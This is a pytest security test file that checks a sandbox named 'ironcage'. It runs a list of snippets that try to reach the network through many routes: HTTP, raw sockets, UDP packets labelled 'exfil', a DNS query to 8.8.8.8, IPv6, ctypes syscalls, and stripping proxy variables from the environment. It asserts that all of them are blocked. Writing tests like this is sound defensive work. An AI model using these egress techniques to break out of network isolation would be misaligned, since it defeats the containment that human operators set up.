"""Egress of every kind, through the real ironcage kernel: a real HTTP server and a UDP socket listen
on the host's 127.0.0.1 and must never hear from a cell."""

from __future__ import annotations

import pytest
from sandbox_wrapper import assert_nothing_got_out, module_bait, module_wrapper

pytestmark = pytest.mark.timeout(240)


bait = module_bait("attacks-net")


wrapper = module_wrapper()


CELLS = {
    "urllib_host": "import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:{port}/urllib', timeout=2).read())",
    "http_client": "import http.client; c = http.client.HTTPConnection('127.0.0.1', {port}, timeout=2); c.request('GET', '/hc'); print(c.getresponse().read())",
    "create_connection": "import socket; s = socket.create_connection(('127.0.0.1', {port}), 2); s.sendall(b'GET /cc HTTP/1.0\\r\\n\\r\\n'); print(s.recv(200))",
    "localhost_name": "import urllib.request; print(urllib.request.urlopen('http://localhost:{port}/name', timeout=2).read())",
    "asyncio_connection": (
        "import asyncio\n"
        "async def go():\n"
        "    r, w = await asyncio.wait_for(asyncio.open_connection('127.0.0.1', {port}), 2)\n"
        "    w.write(b'GET /aio HTTP/1.0\\r\\n\\r\\n'); return await r.read(200)\n"
        "print(await go())"
    ),
    "udp_sendto": "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print(s.sendto(b'exfil', ('127.0.0.1', {udp})))",
    "udp_connected": "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', {udp})); print(s.send(b'exfil'))",
    "dns_getaddrinfo": "import socket; print(socket.getaddrinfo('pypi.org', 443))",
    "dns_gethostbyname": "import socket; print(socket.gethostbyname('example.com'))",
    "dns_raw_udp_53": "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'\\x12\\x34' + b'\\x01\\x00\\x00\\x01' + b'\\x00' * 6 + b'\\x06secret\\x03com\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53)); print(s.recv(100))",
    "ipv6_loopback": "import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2); s.connect(('::1', {port})); print('connected')",
    "ipv6_mapped": "import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2); s.connect(('::ffff:127.0.0.1', {port})); print('connected')",
    "ipv6_udp": "import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); print(s.sendto(b'x', ('::1', {udp})))",
    "raw_icmp": "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('raw')",
    "packet_socket": "import socket; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('packet')",
    "netlink_diag": "import socket; s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4); print('diag')",
    "ctypes_socket": (
        "import ctypes, struct; libc = ctypes.CDLL(None, use_errno=True)\n"
        "fd = libc.socket(2, 1, 0); addr = struct.pack('!HH4s8x', 2, {port}, bytes([127, 0, 0, 1]))\n"
        "addr = struct.pack('=H', 2) + addr[2:]\n"
        "print('fd', fd, ctypes.get_errno(), 'connect', libc.connect(fd, addr, 16), ctypes.get_errno())"
    ),
    "ctypes_raw_syscall": (
        "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.syscall(41, 2, 2, 0), ctypes.get_errno())"  # socket(AF_INET, SOCK_DGRAM) by number
    ),
    "interfaces": "import socket; print(socket.if_nameindex())",
    "abstract_unix": "import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(2); s.connect('\\0/tmp/.X11-unix/X0'); print('connected')",
    "proxy_env": "import os, urllib.request; os.environ['http_proxy'] = 'http://127.0.0.1:{port}'; print(urllib.request.urlopen('http://example.com/', timeout=2).read())",
    "subprocess_python_socket": "import subprocess, sys; print(subprocess.run([sys.executable, '-c', 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'], capture_output=True, text=True))",
}


@pytest.mark.parametrize("name", sorted(CELLS))
def test_egress_reaches_nothing(wrapper, bait, name):
    t = bait.targets()
    # An attacker drops the tool egress proxy from the environment first: the sandbox must hold alone.
    no_proxy = "import os\nfor _k in list(os.environ):\n    if _k.lower().endswith('_proxy'):\n        del os.environ[_k]\n"
    ex = wrapper.attack(no_proxy + CELLS[name].format(port=t["http_port"], udp=t["udp_port"]))
    assert_nothing_got_out(bait, ex, context=name)
    assert (
        "connected" not in ex.stdout and "raw" not in ex.stdout.split() and "packet" not in ex.stdout.split()
    )
    assert "diag" not in ex.stdout.split()


def test_loopback_inside_is_private(wrapper):
    """A server the cell starts on its own loopback would be allowed by nothing anyway: AF_INET is refused."""
    ex = wrapper.attack("import socket; socket.create_server(('127.0.0.1', 0))")
    assert ex.status == "error" and "PermissionError" in ex.text


def test_wrapper_is_unharmed(wrapper):
    assert wrapper.alive() and wrapper.responsive()
